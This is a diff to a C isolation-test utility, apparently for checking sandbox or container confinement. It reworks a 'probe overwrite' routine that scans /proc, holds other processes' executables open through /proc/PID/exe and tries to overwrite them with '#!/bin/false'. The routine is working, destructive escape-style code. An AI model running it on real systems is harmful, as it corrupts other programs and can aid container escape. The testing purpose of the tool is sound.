@@ -7,7 +7,7 @@
  *	probe connect ADDRESS PORT	prints "ok|ERRNO MILLISECONDS"
  *	probe ids			prints "UID EUID NUMBER-OF-EFFECTIVE-CAPABILITIES"
  *	probe overwrite SECONDS		A1: tries to write into any program of /proc/PID/exe that is
- *					not its own; prints the ones it opened for writing
+ *					not its own; prints "held PROGRAM" and "wrote PROGRAM"
  */
 #include <arpa/inet.h>
 #include <dirent.h>
@@ -225,10 +225,39 @@ static int connect_to(const char *host, const char *port)
 	return 0;
 }
 
-/* Holds the program open while it runs and asks for write access until nobody executes it. */
+/* The program that the descriptor is of: by now a process may run another than its link said. */
+static const char *program_of(int fd)
+{
+	static char name[PATH_MAX];
+	char path[64];
+	ssize_t n;
+
+	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+	n = readlink(path, name, sizeof name - 1);
+	name[n > 0 ? n : 0] = 0;
+	return name;
+}
+
+/* Whether the program could be written to: not while it runs, if nothing else forbids it. */
+static bool overwritten(int held)
+{
+	char path[64];
+	bool done;
+	int fd;
+
+	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+	fd = open(path, O_WRONLY | O_CLOEXEC);
+	done = fd >= 0 && write(fd, "#!/bin/false\n", 13) > 0;
+	if (fd >= 0)
+		close(fd);
+	return done;
+}
+
+/* Holds the program open while it runs and asks for write access until nobody executes it.  Its own
+ * image's tools are spared: they are its own harm, and the next exec would fail over them. */
 static int overwrite(int seconds)
 {
-	char own[PATH_MAX] = "", path[64], link[PATH_MAX];
+	char own[PATH_MAX] = "", last[PATH_MAX] = "", path[64];
 	time_t end = time(NULL) + seconds;
 	int held = -1;
 
@@ -239,36 +268,31 @@ static int overwrite(int seconds)
 		struct dirent *d;
 
 		while (proc && (d = readdir(proc))) {
-			ssize_t n;
+			const char *name;
 			int fd;
 
 			snprintf(path, sizeof path, "/proc/%.20s/exe", d->d_name);
-			n = readlink(path, link, sizeof link - 1);
-			if (n <= 0)
-				continue;
-			link[n] = 0;
-			if (!strcmp(link, own) || strstr(link, "busybox"))
-				continue;
 			fd = open(path, O_RDONLY | O_CLOEXEC);
-			if (fd >= 0) {
-				if (held >= 0)
-					close(held);
-				held = fd;
-				fprintf(stderr, "held %s\n", link);
+			name = fd < 0 ? own : program_of(fd);
+			if (!strcmp(name, own) || strstr(name, "busybox")) {
+				if (fd >= 0)
+					close(fd);
+				continue;
 			}
-			fd = open(path, O_WRONLY | O_CLOEXEC);
-			if (fd >= 0 && write(fd, "#!/bin/false\n", 13) > 0)
-				printf("wrote %s\n", link);
+			if (held >= 0)
+				close(held);
+			held = fd;
+			if (strcmp(name, last))
+				printf("held %s\n", strcpy(last, name));
+			if (overwritten(held))
+				printf("wrote %s\n", name);
 		}
 		if (proc)
 			closedir(proc);
-		if (held >= 0) {
-			int fd;
-
-			snprintf(path, sizeof path, "/proc/self/fd/%d", held);
-			fd = open(path, O_WRONLY | O_CLOEXEC);
-			if (fd >= 0 && write(fd, "#!/bin/false\n", 13) > 0)
-				printf("wrote %s\n", path);
+		if (held >= 0 && overwritten(held)) {
+			printf("wrote %s\n", program_of(held));
+			close(held);
+			held = -1;
 		}
 	}
 	return 0;
